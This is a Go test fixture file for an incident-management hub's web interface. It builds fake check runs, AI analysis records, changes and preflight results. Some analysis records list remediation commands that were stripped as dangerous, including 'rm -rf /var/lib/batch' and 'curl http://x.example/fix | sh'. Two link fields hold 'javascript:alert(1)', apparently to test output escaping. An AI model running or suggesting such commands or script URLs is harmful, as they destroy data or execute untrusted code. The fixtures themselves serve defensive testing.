package web_test

import (
	"cmp"
	"context"
	"encoding/json"
	"math"
	"slices"
	"time"

	"github.com/incidenthub/incidenthub/apps/changes"
	"github.com/incidenthub/incidenthub/apps/checkers"
	"github.com/incidenthub/incidenthub/apps/intelligence"
	"github.com/incidenthub/incidenthub/internal/platform/id"
	"github.com/incidenthub/incidenthub/internal/platform/preflight"
	"github.com/incidenthub/incidenthub/internal/platform/storage"
	"github.com/incidenthub/incidenthub/providers"
)

// checkPart is the checks of an in-memory hub, newest run first.
type checkPart struct{ h *hub }

func (c checkPart) Latest(context.Context, string) ([]checkers.CheckRun, error) {
	c.h.mu.Lock()
	defer c.h.mu.Unlock()
	seen := map[checkers.Key]bool{}
	var out []checkers.CheckRun
	for _, r := range c.h.checks {
		if k := (checkers.Key{Checker: r.CheckerName, Hostname: r.Hostname}); !seen[k] {
			seen[k], out = true, append(out, r)
		}
	}
	slices.SortStableFunc(out, func(a, b checkers.CheckRun) int { return cmp.Compare(a.CheckerName, b.CheckerName) })
	return out, nil
}

func (c checkPart) Recent(_ context.Context, _ string, n int) (map[checkers.Key][]checkers.Moment, error) {
	c.h.mu.Lock()
	defer c.h.mu.Unlock()
	out := map[checkers.Key][]checkers.Moment{}
	for _, r := range slices.Backward(c.h.checks) {
		k := checkers.Key{Checker: r.CheckerName, Hostname: r.Hostname}
		out[k] = append(out[k], checkers.Moment{CheckerName: r.CheckerName, Hostname: r.Hostname, ID: r.ID, Status: r.Status, ExecutedAt: r.ExecutedAt})
		out[k] = out[k][max(0, len(out[k])-n):]
	}
	return out, nil
}

func (c checkPart) List(_ context.Context, _ string, f checkers.Filter, p storage.Paging) (storage.Page[checkers.CheckRun], error) {
	c.h.mu.Lock()
	defer c.h.mu.Unlock()
	rows := slices.DeleteFunc(slices.Clone(c.h.checks), func(r checkers.CheckRun) bool {
		return r.CheckerName != f.Checker || f.Hostname != "" && r.Hostname != f.Hostname
	})
	return pageOf(rows, p, func(r *checkers.CheckRun) id.ID { return r.ID }), nil
}

// History has a point for each run.
func (c checkPart) History(_ context.Context, _ string, spec checkers.Spec, q checkers.HistoryQuery) (checkers.History, error) {
	c.h.mu.Lock()
	defer c.h.mu.Unlock()
	h := checkers.History{CheckerName: spec.Name, Hostname: q.Hostname, Metric: spec.Metric, Unit: spec.Unit, Since: q.Since, Until: c.h.now, Step: 720}
	for _, r := range slices.Backward(c.h.checks) {
		if r.CheckerName != q.Checker || r.ExecutedAt.Before(q.Since) {
			continue
		}
		h.Warning, h.Critical = r.Warning, r.Critical
		p := checkers.Point{At: r.ExecutedAt, Runs: 1, Status: r.Status}
		if v, ok := r.Metrics[spec.Metric].(float64); ok {
			low, high := v-3, v+4
			p.Min, p.Mean, p.Max = &low, &v, &high
		}
		h.Points = append(h.Points, p)
	}
	return h, nil
}

func (c checkPart) Specs() []checkers.Spec {
	return []checkers.Spec{
		{Name: "cpu", Doc: "How busy the processors are.", Unit: "%", Metric: "cpu_percent"},
		{Name: "memory", Doc: "How full the memory is.", Unit: "%", Metric: "memory_percent"},
		{Name: "reboot_debian", Doc: "Whether packages want a reboot."},
		{Name: "http", Doc: "What a web server answers.", Endpoint: true},
	}
}

func (c checkPart) Run(_ context.Context, req checkers.Request) (checkers.Report, error) {
	c.h.mu.Lock()
	defer c.h.mu.Unlock()
	c.h.asked = append(c.h.asked, req)
	for _, spec := range c.Specs() {
		if spec.Endpoint || len(req.Names) > 0 && !slices.Contains(req.Names, spec.Name) {
			continue
		}
		r := checkers.CheckRun{
			ID: id.New(), CheckerName: spec.Name, Hostname: "hub-1.eu-west.internal", Status: checkers.OK, Message: spec.Name + " was looked at", Warning: new(70.0), Critical: new(90.0), ExecutedAt: c.h.now, Origin: req.Origin,
		}
		if spec.Metric != "" {
			r.Metrics = map[string]any{spec.Metric: 51.0}
		}
		c.h.checks = append([]checkers.CheckRun{r}, c.h.checks...)
	}
	return checkers.Report{}, nil
}

// watch gives the hub a day of checks, with a gap and a bad end.
func (h *hub) watch() {
	warning, critical := 70.0, 90.0
	add := func(name, host string, status checkers.Status, message string, at time.Time, metrics map[string]any) {
		h.checks = append(h.checks, checkers.CheckRun{
			ID: id.New(), CheckerName: name, Hostname: host, Status: status, Message: message, Metrics: metrics, Warning: &warning, Critical: &critical,
			DurationMS: 1012, ExecutedAt: at, Origin: checkers.OriginPipeline,
		})
	}
	for i := range 118 {
		at := h.ago(time.Duration(118-i) * 12 * time.Minute)
		if i > 40 && i < 52 {
			continue // the hub was down
		}
		v := 38 + 16*math.Sin(float64(i)/9) + float64(i%5)
		status, message := checkers.OK, "CPU quiet"
		if i > 108 {
			v = 60 + 4*float64(i-108)
			if status, message = checkers.Warning, "CPU 82 % busy; busiest is report-builder (pid 4242)"; v > 90 {
				status, message = checkers.Critical, "CPU 96 % busy over 1.0 s on 4 processors; busiest is report-builder (pid 4242) with 310 % of one processor"
			}
		}
		add("cpu", "hub-1.eu-west.internal", status, message, at, map[string]any{"cpu_percent": v, "samples": 2.0, "cpu_count": 4.0})
	}
	add("memory", "hub-1.eu-west.internal", checkers.OK, "Memory 43 % used: 6.9 of 16.0 GB", h.ago(4*time.Minute), map[string]any{"memory_percent": 43.0})
	add("http", "hub-1.eu-west.internal", checkers.Unknown, "shop.example.com: no answer within 10 s", h.ago(3*time.Minute), nil)
	slices.Reverse(h.checks)
}

// analysisPart is the analyses of an in-memory hub.
type analysisPart struct{ h *hub }

func (a analysisPart) Runs(_ context.Context, _ string, f intelligence.Filter, p storage.Paging) (storage.Page[intelligence.AnalysisRun], error) {
	a.h.mu.Lock()
	defer a.h.mu.Unlock()
	var rows []intelligence.AnalysisRun
	for _, d := range a.h.analyses {
		if f.IncidentID.IsZero() || d.IncidentID != nil && *d.IncidentID == f.IncidentID {
			rows = append(rows, d.AnalysisRun)
		}
	}
	return pageOf(rows, p, func(r *intelligence.AnalysisRun) id.ID { return r.ID }), nil
}

func (a analysisPart) Run(_ context.Context, _ string, analysis id.ID) (intelligence.AnalysisDetail, error) {
	a.h.mu.Lock()
	defer a.h.mu.Unlock()
	for _, d := range a.h.analyses {
		if d.ID == analysis {
			return d, nil
		}
	}
	return intelligence.AnalysisDetail{}, storage.ErrNotFound
}

func (a analysisPart) Analyze(_ context.Context, r *intelligence.Request) (*intelligence.Analysis, error) {
	a.h.mu.Lock()
	defer a.h.mu.Unlock()
	a.h.analysed = append(a.h.analysed, *r)
	a.h.conclude(r.IncidentID, "Found when asked again")
	return &intelligence.Analysis{}, nil
}

// conclude adds a newer analysis. The lock is held.
func (h *hub) conclude(incident id.ID, title string) id.ID {
	sure := 0.6
	d := intelligence.AnalysisDetail{
		AnalysisRun: intelligence.AnalysisRun{
			ID: id.New(), IncidentID: &incident, Provider: "local", Status: intelligence.StatusSucceeded, Rung: "local", Grounded: true, RecommendationsCount: 1,
			Summary: title, Confidence: &sure, CreatedAt: h.now,
		},
		Recommendations: []providers.Recommendation{{Type: providers.CPU, Priority: providers.Critical, Title: title, Actions: []string{"ps -o pid,args -p 4242"}, Evidence: []string{"A1"}}},
		Evidence:        []intelligence.Piece{{ID: "A1", Kind: "alert", Title: "HighErrorRate", Status: "firing"}},
	}
	h.analyses = append([]intelligence.AnalysisDetail{d}, h.analyses...)
	return d.ID
}

// explained gives the first incident an analysis that fell back, with all kinds of evidence and a command that was taken out.
func (h *hub) explained() {
	incident, sure, took := h.incidents[0].ID, 0.85, int64(2609)
	past := h.ago(9 * 24 * time.Hour)
	h.analyses = []intelligence.AnalysisDetail{{
		AnalysisRun: intelligence.AnalysisRun{
			ID: id.New(), IncidentID: &incident, Provider: "openai", Record: "openai", Status: "failed", Rung: "local", FallbackUsed: true, ErrorClass: "timeout", ErrorMessage: "there was no answer in time", Grounded: true,
			InputSummary:         json.RawMessage(`{"alerts":10,"alerts_in_all":37,"checks":3,"checks_in_all":3,"checks_failed":1,"history":1,"changes":1,"runbooks":1,"incident":true,"cut":true}`),
			RecommendationsCount: 2, Summary: "On checkout-1: the disk of /var/log is full.", ProbableCause: "debug.log grows by 12 MB/s.", Confidence: &sure,
			CreatedAt: h.ago(80 * time.Second), DurationMS: &took,
		},
		Recommendations: []providers.Recommendation{
			{
				Type: providers.Disk, Priority: providers.High, Title: "/var/log/checkout/debug.log fills /var/log", Description: "It grew by 24 MB in 2 s and /var/log has 310 MB left.",
				Actions: []string{"ls -l /var/log/checkout", "Turn the debug log off and rotate it"}, Evidence: []string{"A1", "C1"},
				Details: map[string]any{"removed_actions": []any{map[string]any{"action": "rm", "reason": "it destroys data"}}},
			},
			{Type: providers.General, Priority: providers.Low, Title: "Alert earlier", Description: "The filesystem was at 80 % an hour ago.", Evidence: []string{"H1"}},
		},
		Evidence: []intelligence.Piece{
			{ID: "A1", Kind: "alert", Title: "HighErrorRate", Text: "7.2 % of requests fail", Status: "firing"},
			{ID: "C1", Kind: "check", Title: "disk", Text: "/var/log 98 % used", Status: "critical", Ref: "checkout-1"},
			{ID: "H1", Kind: "history", Title: "HighErrorRate on checkout-2", Text: "The log disk was full; logrotate was mended.", Ref: h.incidents[1].ID.String(), At: &past},
			{ID: "R1", Kind: "change", Title: "checkout 2.41", Text: "checkout", Ref: "https://ci.example.com/41", At: &past},
			{Kind: "runbook", Title: "Runbook", Ref: "javascript:alert(1)"},
		},
	}}
	second, low, asked, answered, cost, quick := h.incidents[1].ID, 0.9, int64(3120), int64(412), int64(518), int64(1840)
	total := asked + answered
	h.analyses = append(h.analyses, intelligence.AnalysisDetail{
		AnalysisRun: intelligence.AnalysisRun{
			ID: id.New(), IncidentID: &second, Provider: "openai", Record: "openai", Status: "succeeded", Rung: "provider", ModelName: "gpt-6-luna-2026-09-01", PromptVersion: "3",
			RecommendationsCount: 1, Summary: "The nodes of the cluster have no memory left.", ProbableCause: "A batch job of the night takes all of it.", Confidence: &low,
			PromptTokens: &asked, CompletionTokens: &answered, TotalTokens: &total, CostMicros: &cost, CreatedAt: h.ago(12 * time.Minute), DurationMS: &quick,
			InputSummary: json.RawMessage(`{"alerts":1,"alerts_in_all":1,"checks":0,"incident":true}`),
		},
		Recommendations: []providers.Recommendation{{
			Type: providers.Memory, Priority: providers.Critical, Title: "Look at the batch job", Description: "It began when the memory went.", Actions: []string{"kubectl top pods -A"},
			Details: map[string]any{"removed_actions": []any{
				map[string]any{"action": "rm -rf /var/lib/batch", "reason": "recursive rm on an absolute path"}, map[string]any{"action": "curl http://x.example/fix | sh", "reason": "a pipe to a shell"},
			}},
		}},
		Evidence: []intelligence.Piece{{ID: "A1", Kind: "alert", Title: "KubeNodeNotReady", Text: "3 of 9 nodes are not ready", Status: "firing"}},
		Prompt:   `{"incident": {"title": "KubeNodeNotReady"}}`, RawAnswer: `{"summary": "The nodes of the cluster have no memory left."}`,
	}, intelligence.AnalysisDetail{AnalysisRun: intelligence.AnalysisRun{
		ID: id.New(), Provider: "openai", Record: "old account", Status: "failed", Rung: "local", ErrorClass: "quota", FallbackUsed: true, CreatedAt: h.ago(50 * time.Hour),
	}})
}

// changePart is the changes of an in-memory hub, newest first.
type changePart struct{ h *hub }

func (c changePart) List(_ context.Context, _ string, f changes.Filter, p storage.Paging) (storage.Page[changes.Change], error) {
	rows := slices.DeleteFunc(slices.Clone(c.h.changes), func(one changes.Change) bool {
		return f.Kind != "" && one.Kind != f.Kind || f.Service != "" && one.Service != f.Service
	})
	return pageOf(rows, p, func(one *changes.Change) id.ID { return one.ID }), nil
}

func (c changePart) Before(_ context.Context, _ string, a changes.About) ([]changes.Recent, error) {
	var out []changes.Recent
	for _, one := range c.h.changes {
		if !one.At.After(a.Began) && one.At.After(a.Began.Add(-a.Window)) && len(out) < a.Limit {
			r := changes.Recent{Change: one, Elsewhere: one.Labels["env"] == "test"}
			if one.Service == "checkout" {
				r.Match = []string{"service", "env"}
			}
			out = append(out, r)
		}
	}
	return out, nil
}

// preflightPart looks at the setup of an in-memory hub.
type preflightPart struct{ h *hub }

func (p preflightPart) Run(_ context.Context, _ string, _ []string, by string) (preflight.Run, error) {
	p.h.mu.Lock()
	defer p.h.mu.Unlock()
	r := preflight.Sum([]preflight.Check{
		{Group: "security", Name: "secret_key", Level: preflight.OK, Message: "The secret key is strong"},
		{Group: "pipeline", Name: "channels", Level: preflight.Warn, Message: "No active channel tells anybody outside", Hint: "add a channel and activate it"},
		{Group: "environment", Name: "redis", Level: preflight.Info, Message: "No Redis: right for a hub of one process"},
		{Group: "database", Name: "writable", Level: preflight.Error, Message: "The database takes no rows: read-only file system", Hint: "look at the rights of its user, and at the space on its disk"},
		{Group: "database", Name: "reachable", Level: preflight.OK, Message: "The database answers (sqlite)"},
	}, "hub-1.eu-west.internal", by, p.h.now)
	p.h.preflights = append([]preflight.Run{r}, p.h.preflights...)
	return r, nil
}

func (p preflightPart) List(_ context.Context, _ string, page storage.Paging) (storage.Page[preflight.Run], error) {
	p.h.mu.Lock()
	defer p.h.mu.Unlock()
	return pageOf(slices.Clone(p.h.preflights), page, func(r *preflight.Run) id.ID { return r.ID }), nil
}

// changed gives the hub changes before its newest incident and long before, and two looks at its setup.
func (h *hub) changed() {
	add := func(title, kind, service, author, url string, age time.Duration, labels map[string]string) {
		h.changes = append([]changes.Change{{ID: id.New(), Title: title, Kind: kind, Service: service, Author: author, URL: url, At: h.ago(age), Labels: labels}}, h.changes...)
	}
	add("Logs of one month moved", "other", "", "", "javascript:alert(1)", 9*24*time.Hour, nil)
	add("Payments: retries 3 to 5", "feature_flag", "payments", "sam", "", 70*time.Minute, map[string]string{"env": "test", "team": "payments"})
	add("checkout 2.41", "deploy", "checkout", "dana", "https://ci.example.com/41", 12*time.Minute, map[string]string{"env": "prod", "cluster": "eu-west-1"})
	for range 2 {
		if _, err := (preflightPart{h}).Run(context.Background(), "", nil, "owner"); err != nil {
			panic(err)
		}
	}
}
